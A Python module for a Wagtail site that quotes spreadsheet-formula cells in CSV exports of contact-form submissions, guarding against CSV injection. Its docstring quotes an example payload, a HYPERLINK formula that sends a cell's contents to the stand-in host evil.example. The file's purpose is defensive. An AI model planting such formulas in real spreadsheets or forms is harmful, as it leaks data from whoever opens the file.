"""Spreadsheets staff download, with no formula a visitor wrote.

A visitor may write `=HYPERLINK("https://evil.example/?"&A2, "Open")` into the
contact form; a spreadsheet opening the CSV export would run it (OWASP, "CSV
injection"). A cell starting with = + - @, a tab or a carriage return is
prefixed with a single quote, which spreadsheets read as "this is text".
Wagtail's XLSX export already stores such cells as text.
"""

from wagtail.contrib.forms.views import SubmissionsListView

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text(value):
    """`value`, quoted when a spreadsheet would take it for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeCSVMixin:
    """For views with Wagtail's SpreadsheetExportMixin: CSV cells as text."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return as_text(value) if export_format == self.FORMAT_CSV else value


class ContactSubmissionsListView(FormulaSafeCSVMixin, SubmissionsListView):
    """Wagtail's list of a form's submissions, exported without formulas."""
